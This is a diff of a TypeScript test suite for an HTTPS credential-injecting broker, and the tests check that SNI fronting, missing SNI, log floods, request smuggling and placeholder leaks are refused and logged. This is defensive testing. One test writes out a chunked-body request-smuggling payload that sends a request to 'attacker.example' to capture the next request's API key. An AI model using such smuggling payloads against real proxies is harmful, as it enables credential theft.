@@ -17,12 +17,19 @@ import * as tls from "node:tls"
 import { promisify } from "node:util"
 import { startConnectProxy } from "../src/guest/connectProxy.js"
 import { type HttpsBrokerOptions, makeHttpsBroker } from "../src/layers/HttpsBrokerLive.js"
+import { makeSessionCa } from "../src/lib/broker/ca.js"
 import { formatBrokerLog, readBrokerLog } from "../src/lib/broker/log.js"
 import type { BrokerPolicyEncoded } from "../src/lib/broker/policy.js"
 import { decodePolicy } from "../src/lib/broker/policy.js"
 import { GuestConfig } from "../src/protocol/GuestConfig.js"
 import type { TunnelRequest } from "../src/services/GuestRpc.js"
-import { connectThroughProxy, duplexPair, inMemoryTunnel, startUpstream } from "./support/brokerHarness.js"
+import {
+  clientHelloBytes,
+  connectThroughProxy,
+  duplexPair,
+  inMemoryTunnel,
+  startUpstream
+} from "./support/brokerHarness.js"
 
 const run = promisify(execFile)
 const hasCurl = await run("curl", ["--version"]).then(
@@ -36,6 +43,12 @@ interface Setup {
   readonly policy?: (upstreamPort: number, envVar: string) => BrokerPolicyEncoded
   readonly broker?: Partial<HttpsBrokerOptions>
   readonly proxyHeadTimeoutMs?: number
+  /** the upstream's name (default test.local) */
+  readonly name?: string
+  /** trust the upstream's CA through the layer's test option (default true) */
+  readonly extraCa?: boolean
+  /** runs with the upstream's CA before the broker session is made */
+  readonly beforeBroker?: (upstreamCaPem: string) => Effect.Effect<void>
 }
 
 /**
@@ -49,7 +62,7 @@ const setup = (options: Setup = {}) =>
     const sessionDir = path.join(dir, "session")
     yield* fs.makeDirectory(sessionDir, { mode: 0o700 })
     const upstream = yield* Effect.acquireRelease(
-      Effect.promise(() => startUpstream(NAME)),
+      Effect.promise(() => startUpstream(options.name ?? NAME)),
       (u) => Effect.promise(() => u.close())
     )
     const envVar = `ABOX_TEST_CANARY_${crypto.randomBytes(4).toString("hex").toUpperCase()}`
@@ -62,8 +75,21 @@ const setup = (options: Setup = {}) =>
       credentials: [{ host: NAME, header: "x-api-key", fromEnv: envVar }],
       resolve: { [NAME]: "127.0.0.1" }
     }
-    const policy = yield* decodePolicy(encoded)
-    const broker = yield* makeHttpsBroker({ extraUpstreamCa: [upstream.caPem], ...options.broker })
+    const upstreamCaFile = path.join(dir, "upstream-ca.pem")
+    yield* fs.writeFileString(upstreamCaFile, upstream.caPem)
+    const policy = yield* decodePolicy(
+      typeof encoded.upstreamCaFiles === "undefined"
+        ? encoded
+        : {
+            ...encoded,
+            upstreamCaFiles: encoded.upstreamCaFiles.map((f) => f.replace("$UPSTREAM_CA", upstreamCaFile))
+          }
+    )
+    if (options.beforeBroker !== undefined) yield* options.beforeBroker(upstream.caPem)
+    const broker = yield* makeHttpsBroker({
+      ...(options.extraCa === false ? {} : { extraUpstreamCa: [upstream.caPem] }),
+      ...options.broker
+    })
     const session = yield* broker.make(policy, { sessionId: "s-test", sessionDir })
     const queue = yield* Queue.unbounded<TunnelRequest>()
     yield* Effect.forkScoped(session.serve(Stream.fromQueue(queue)))
@@ -83,8 +109,6 @@ const setup = (options: Setup = {}) =>
     )
     const caFile = path.join(dir, "session-ca.pem")
     yield* fs.writeFileString(caFile, session.caCertPem)
-    const upstreamCaFile = path.join(dir, "upstream-ca.pem")
-    yield* fs.writeFileString(upstreamCaFile, upstream.caPem)
     const curl = (url: string, extra: ReadonlyArray<string> = [], ca = caFile) =>
       Effect.promise(() =>
         run("curl", [
@@ -545,6 +569,75 @@ describe("HttpsBroker attacks: each denied and logged, none reaches a dial", () 
       )
   )
 
+  it.live(
+    "pass-through hosts: the ClientHello must name the CONNECT host (no fronting, no missing SNI, no plain bytes)",
+    () =>
+      scoped(
+        Effect.gen(function* () {
+          const env = yield* setup({
+            policy: (port) => ({
+              format: 1,
+              allow: [{ host: NAME, ports: [port] }],
+              resolve: { [NAME]: "127.0.0.1" }
+            })
+          })
+          const target = `${NAME}:${env.upstream.port}`
+          const attempt = (servername: string) =>
+            Effect.promise(async () => {
+              const opened = await connectThroughProxy(env.proxy.port, target)
+              if (!opened.ok) throw new Error(`CONNECT refused: ${opened.head}`)
+              // the name is checked by the broker, not by this client: a front end serving many
+              // tenants would present a certificate valid for both names
+              const socket = tls.connect({
+                socket: opened.socket,
+                servername,
+                ca: [env.upstream.caPem],
+                checkServerIdentity: () => undefined
+              })
+              return await new Promise<string>((resolve) => {
+                socket.once("secureConnect", () => {
+                  socket.destroy()
+                  resolve("ok")
+                })
+                socket.once("error", (e: NodeJS.ErrnoException) => resolve(e.code ?? e.message))
+              })
+            })
+          // another tenant's name behind the same front end: refused before a byte goes upstream
+          expect(yield* attempt("evil.test")).not.toBe("ok")
+          // no SNI at all (node sends none for an empty servername)
+          expect(yield* attempt("")).not.toBe("ok")
+          // plain bytes instead of TLS
+          const plain = yield* Effect.promise(async () => {
+            const opened = await connectThroughProxy(env.proxy.port, target)
+            if (!opened.ok) throw new Error("CONNECT refused")
+            opened.socket.resume()
+            opened.socket.write(`GET /hello HTTP/1.1\r\nHost: evil.test\r\n\r\n`)
+            return opened.socket
+          })
+          expect(yield* readAll(plain)).toBe("")
+          expect(env.upstream.seen).toHaveLength(0)
+          // the right name still works
+          expect(yield* attempt(NAME)).toBe("ok")
+          yield* env.session.active.pipe(
+            Effect.repeat({ until: (n) => n === 0, schedule: Schedule.spaced("10 millis") }),
+            Effect.timeout("5 seconds")
+          )
+          const log = yield* env.logEntries
+          expect(log.filter((e) => e.decision === "deny").map((e) => [e.event, e.reason])).toEqual([
+            ["request", "sni-mismatch"],
+            ["request", "sni-missing"],
+            ["request", "not-tls"]
+          ])
+          expect(log.filter((e) => e.event === "close").map((e) => e.reason)).toEqual([
+            "sni-mismatch",
+            "sni-missing",
+            "not-tls",
+            undefined
+          ])
+        })
+      )
+  )
+
   it.live("a bounded number of concurrent tunnels per session", () =>
     scoped(
       Effect.gen(function* () {
@@ -570,6 +663,43 @@ describe("HttpsBroker attacks: each denied and logged, none reaches a dial", () 
     )
   )
 
+  it.live(
+    "a flood of 20,000 denied tunnels writes a bounded broker.log, with the count of what was not written",
+    () =>
+      scoped(
+        Effect.gen(function* () {
+          const fs = yield* FileSystem.FileSystem
+          const sessionDir = yield* fs.makeTempDirectoryScoped()
+          const policy = yield* decodePolicy({ format: 1, allow: [{ host: "allowed.com", ports: [443] }] })
+          const broker = yield* makeHttpsBroker({ resolve: () => Promise.resolve(["93.184.215.14"]) })
+          const logPath = yield* Effect.scoped(
+            Effect.gen(function* () {
+              const session = yield* broker.make(policy, { sessionId: "s-flood", sessionDir })
+              yield* Effect.forEach(
+                Array.from({ length: 20_000 }, (_, i) => i),
+                (i) =>
+                  session.handle(
+                    inMemoryTunnel(2 * i + 1, `h${i}-${"x".repeat(200)}.evil.example`, 443).request
+                  ),
+                { concurrency: "unbounded", discard: true }
+              )
+              return session.logPath
+            })
+          )
+          const size = (yield* fs.stat(logPath)).size
+          expect(Number(size)).toBeLessThan(128 * 1024)
+          const log = (yield* readBrokerLog(logPath)).entries
+          const denials = log.filter((e) => e.event === "open")
+          expect(denials.length).toBeGreaterThan(0)
+          expect(denials.length).toBeLessThanOrEqual(100)
+          const suppressed = log
+            .filter((e) => e.event === "suppressed")
+            .reduce((n, e) => n + (e.count ?? 0), 0)
+          expect(denials.length + suppressed).toBe(20_000)
+        })
+      )
+  )
+
   it.live("closing the session's scope ends its open tunnels and still logs their close", () =>
     scoped(
       Effect.gen(function* () {
@@ -589,7 +719,7 @@ describe("HttpsBroker attacks: each denied and logged, none reaches a dial", () 
         const opened = yield* Effect.promise(() => tunnel.result)
         expect(opened.ok).toBe(true)
         if (!opened.ok) return
-        opened.stream.write("hello")
+        opened.stream.write(yield* Effect.promise(() => clientHelloBytes("allowed.com")))
         const ended = new Promise<void>((resolve) => opened.stream.once("close", () => resolve()))
         opened.stream.resume()
         yield* Scope.close(sessionScope, Exit.void).pipe(
@@ -606,6 +736,298 @@ describe("HttpsBroker attacks: each denied and logged, none reaches a dial", () 
           ["open", "allow", undefined],
           ["close", "allow", "session-closed"]
         ])
+      })
+    )
+  )
+})
+
+/** write raw HTTP on a TLS socket; read until `until(text)` or the socket closes or `ms` pass */
+const exchange = (socket: Duplex, request: string, until: (text: string) => boolean, ms = 5000) =>
+  Effect.promise(
+    () =>
+      new Promise<string>((resolve) => {
+        let text = ""
+        const done = () => {
+          clearTimeout(timer)
+          socket.off("data", onData)
+          resolve(text)
+        }
+        const onData = (c: Buffer) => {
+          text += c.toString("latin1")
+          if (until(text)) done()
+        }
+        const timer = setTimeout(done, ms)
+        socket.on("data", onData)
+        socket.once("close", done)
+        socket.write(request)
+      })
+  )
+
+/** a whole response with Content-Length, or a chunked one, has arrived */
+const responseComplete = (text: string) => {
+  const end = text.indexOf("\r\n\r\n")
+  if (end < 0) return false
+  const head = text.slice(0, end).toLowerCase()
+  const length = /content-length: *(\d+)/.exec(head)
+  if (length !== null) return text.length - end - 4 >= Number(length[1])
+  return /transfer-encoding: *chunked/.test(head) ? text.endsWith("0\r\n\r\n") : true
+}
+
+describe("HttpsBroker credential hosts: framing and the placeholder", () => {
+  it.live(
+    "request smuggling: a chunked body on a GET cannot become a request to another virtual host carrying the next request's key",
+    () =>
+      scoped(
+        Effect.gen(function* () {
+          const env = yield* setup()
+          const host = `${NAME}:${env.upstream.port}`
+          const { socket, handshake } = yield* tlsThroughProxy(env, NAME)
+          expect(handshake).toBe("ok")
+          // the smuggled request swallows what follows it on the upstream connection as its body
+          const smuggled = `POST /collect HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: 400\r\n\r\n`
+          const first = yield* exchange(
+            socket,
+            `GET /echo HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\n\r\n` +
+              `${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`,
+            responseComplete
+          )
+          expect(first).toMatch(/^HTTP\/1\.1 404/)
+          const second = yield* exchange(
+            socket,
+            `GET /hello HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
+            (t) => t.includes("hello from upstream"),
+            3000
+          )
+          socket.destroy()
+          // on a connection reused after an unframed body, the next request's key became the
+          // body of a request to attacker.example
+          expect(env.upstream.seen.filter((r) => r.headers["host"] === "attacker.example")).toEqual([])
+          expect(env.upstream.seen.some((r) => r.body.includes(env.secret))).toBe(false)
+          expect(second).toContain("hello from upstream")
+          // the upstream saw exactly the two requests, both for the tunnel's host
+          expect(env.upstream.seen.map((r) => [r.method, r.url, r.headers["host"]])).toEqual([
+            ["GET", "/echo", host],
+            ["GET", "/hello", host]
+          ])
+          expect(env.upstream.seen[0]!.body).toBe(smuggled)
+          for (const r of env.upstream.seen) expect(r.headers["x-api-key"]).toBe(env.secret)
+        })
+      )
+  )
+
+  it.live("an upstream connection whose response ended before the request body did is not reused", () =>
+    scoped(
+      Effect.gen(function* () {
+        const env = yield* setup()
+        const host = `${NAME}:${env.upstream.port}`
+        const { socket } = yield* tlsThroughProxy(env, NAME)
+        // /hello answers at once, before the body has arrived
+        const early = yield* exchange(
+          socket,
+          `POST /hello HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 20\r\n\r\n12345`,
+          responseComplete
+        )
+        expect(early).toMatch(/^HTTP\/1\.1 200/)
+        // the rest of the body; then, once a reusable connection would be back in the pool, the next request
+        socket.write("678901234567890")
+        yield* Effect.sleep("300 millis")
+        const started = Date.now()
+        const next = yield* exchange(socket, `GET /hello HTTP/1.1\r\nHost: ${host}\r\n\r\n`, responseComplete)
+        expect(Date.now() - started).toBeLessThan(4000)
+        expect(next).toMatch(/^HTTP\/1\.1 200/)
+        socket.destroy()
+        expect(env.upstream.seen.map((r) => [r.method, r.url])).toEqual([
+          ["POST", "/hello"],
+          ["GET", "/hello"]
+        ])
+        expect(env.upstream.seen[0]!.connection).not.toBe(env.upstream.seen[1]!.connection)
+      })
+    )
+  )
+
+  it.live("a transfer coding other than chunked is refused, not forwarded", () =>
+    scoped(
+      Effect.gen(function* () {
+        const env = yield* setup()
+        const host = `${NAME}:${env.upstream.port}`
+        const { socket } = yield* tlsThroughProxy(env, NAME)
+        const answer = yield* exchange(
+          socket,
+          `POST /echo HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: gzip, chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n`,
+          responseComplete
+        )
+        expect(answer).toMatch(/^HTTP\/1\.1 (400|501)/)
+        socket.destroy()
+        expect(env.upstream.seen).toHaveLength(0)
+      })
+    )
+  )
+
+  it.live(
+    "the placeholder never leaves the host: dropped from other headers (logged), refused in the query string",
+    () =>
+      scoped(
+        Effect.gen(function* () {
+          const env = yield* setup()
+          const host = `${NAME}:${env.upstream.port}`
+          const { socket } = yield* tlsThroughProxy(env, NAME)
+          const ok = yield* exchange(
+            socket,
+            `GET /hello HTTP/1.1\r\nHost: ${host}\r\nx-api-key: abox-placeholder\r\n` +
+              `Authorization: Bearer abox-placeholder\r\nX-Other: pre-ABOX-PLACEHOLDER-post\r\n\r\n`,
+            responseComplete
+          )
+          expect(ok).toMatch(/^HTTP\/1\.1 200/)
+          socket.destroy()
+          for (const query of ["/hello?key=abox-placeholder", "/hello?key=%61box-placeholder"]) {
+            const fresh = yield* tlsThroughProxy(env, NAME)
+            const refused = yield* exchange(
+              fresh.socket,
+              `GET ${query} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
+              responseComplete
+            )
+            expect(refused).toMatch(/^HTTP\/1\.1 400/)
+            expect(refused).toContain("placeholder-in-url")
+            fresh.socket.destroy()
+          }
+          expect(env.upstream.seen).toHaveLength(1)
+          const seen = env.upstream.seen[0]!
+          expect(seen.headers["x-api-key"]).toBe(env.secret)
+          expect(seen.headers["authorization"]).toBeUndefined()
+          expect(seen.headers["x-other"]).toBeUndefined()
+          expect(JSON.stringify(env.upstream.seen).toLowerCase()).not.toContain("abox-placeholder")
+          yield* env.session.active.pipe(
+            Effect.repeat({ until: (n) => n === 0, schedule: Schedule.spaced("10 millis") }),
+            Effect.timeout("5 seconds")
+          )
+          const requests = (yield* env.logEntries).filter((e) => e.event === "request")
+          expect(requests.map((e) => [e.status, e.reason, e.credential, e.droppedHeaders])).toEqual([
+            [200, undefined, true, ["authorization", "x-other"]],
+            [400, "placeholder-in-url", false, undefined],
+            [400, "placeholder-in-url", false, undefined]
+          ])
+          const text = formatBrokerLog(yield* readBrokerLog(env.session.logPath))
+          expect(text).toContain("placeholder dropped from authorization, x-other")
+        })
+      )
+  )
+
+  it.live(
+    "a preset through resolve host:port and a policy upstream CA (the host's NODE_EXTRA_CA_CERTS kept)",
+    () =>
+      scoped(
+        Effect.gen(function* () {
+          const fs = yield* FileSystem.FileSystem
+          const other = yield* Effect.promise(() => makeSessionCa({ commonName: "unrelated CA" }))
+          const otherFile = path.join(yield* fs.makeTempDirectoryScoped(), "other-ca.pem")
+          yield* fs.writeFileString(otherFile, other.certPem)
+          const run = (upstreamCaFiles: ReadonlyArray<string>, hostExtra: "upstream" | "none") =>
+            Effect.gen(function* () {
+              // the broker reads the host's NODE_EXTRA_CA_CERTS when a session starts
+              const saved = process.env["NODE_EXTRA_CA_CERTS"]
+              yield* Effect.addFinalizer(() =>
+                Effect.sync(() =>
+                  saved === undefined
+                    ? delete process.env["NODE_EXTRA_CA_CERTS"]
+                    : (process.env["NODE_EXTRA_CA_CERTS"] = saved)
+                )
+              )
+              const upstreamCaCopy = path.join(yield* fs.makeTempDirectoryScoped(), "extra.pem")
+              if (hostExtra === "upstream") process.env["NODE_EXTRA_CA_CERTS"] = upstreamCaCopy
+              else delete process.env["NODE_EXTRA_CA_CERTS"]
+              return yield* setup({
+                name: "api.anthropic.com",
+                extraCa: false,
+                policy: (port, envVar) => ({
+                  format: 1,
+                  allow: [],
+                  credentials: [{ preset: "anthropic", fromEnv: envVar }],
+                  resolve: { "api.anthropic.com": `127.0.0.1:${port}` },
+                  upstreamCaFiles
+                }),
+                beforeBroker: (upstreamCaPem) =>
+                  fs.writeFileString(upstreamCaCopy, upstreamCaPem).pipe(Effect.orDie)
+              })
+            })
+          const get = (env: Env) =>
+            Effect.gen(function* () {
+              const { socket, handshake } = yield* tlsThroughProxy(
+                env,
+                "api.anthropic.com",
+                "api.anthropic.com:443"
+              )
+              expect(handshake).toBe("ok")
+              const answer = yield* exchange(
+                socket,
+                `GET /hello HTTP/1.1\r\nHost: api.anthropic.com\r\nAuthorization: Bearer abox-placeholder\r\n\r\n`,
+                responseComplete
+              )
+              socket.destroy()
+              return answer
+            })
+          // the policy names the upstream's CA
+          const viaPolicy = yield* Effect.scoped(
+            Effect.gen(function* () {
+              const env = yield* run(["$UPSTREAM_CA"], "none")
+              expect(yield* get(env)).toMatch(/^HTTP\/1\.1 200/)
+              expect(
+                env.upstream.seen.map((r) => [r.headers["x-api-key"], r.headers["authorization"]])
+              ).toEqual([[env.secret, undefined]])
+              return true
+            })
+          )
+          expect(viaPolicy).toBe(true)
+          // the policy names another CA; the host's NODE_EXTRA_CA_CERTS still vouches for the upstream
+          yield* Effect.scoped(
+            Effect.gen(function* () {
+              const env = yield* run([otherFile], "upstream")
+              expect(yield* get(env)).toMatch(/^HTTP\/1\.1 200/)
+            })
+          )
+          // neither: the upstream's certificate is not trusted
+          yield* Effect.scoped(
+            Effect.gen(function* () {
+              const env = yield* run([otherFile], "none")
+              expect(yield* get(env)).toMatch(/^HTTP\/1\.1 502/)
+              expect(env.upstream.seen).toHaveLength(0)
+            })
+          )
+        })
+      )
+  )
+
+  it.live("an unavailable credential: open and close lines do not say a credential was injected", () =>
+    scoped(
+      Effect.gen(function* () {
+        const env = yield* setup({
+          policy: (port) => ({
+            format: 1,
+            allow: [{ host: NAME, ports: [port] }],
+            credentials: [{ host: NAME, header: "x-api-key", fromEnv: "ABOX_TEST_UNSET_VARIABLE_X" }],
+            resolve: { [NAME]: "127.0.0.1" }
+          })
+        })
+        const { socket } = yield* tlsThroughProxy(env, NAME)
+        const answer = yield* exchange(
+          socket,
+          `GET /hello HTTP/1.1\r\nHost: ${NAME}:${env.upstream.port}\r\nConnection: close\r\n\r\n`,
+          responseComplete
+        )
+        expect(answer).toMatch(/^HTTP\/1\.1 502/)
+        socket.destroy()
+        yield* env.session.active.pipe(
+          Effect.repeat({ until: (n) => n === 0, schedule: Schedule.spaced("10 millis") }),
+          Effect.timeout("5 seconds")
+        )
+        const log = yield* env.logEntries
+        expect(log.map((e) => [e.event, e.credential])).toEqual([
+          ["open", false],
+          ["request", false],
+          ["close", false]
+        ])
+        expect(formatBrokerLog(yield* readBrokerLog(env.session.logPath))).not.toContain(
+          "credential injected"
+        )
       })
     )
   )
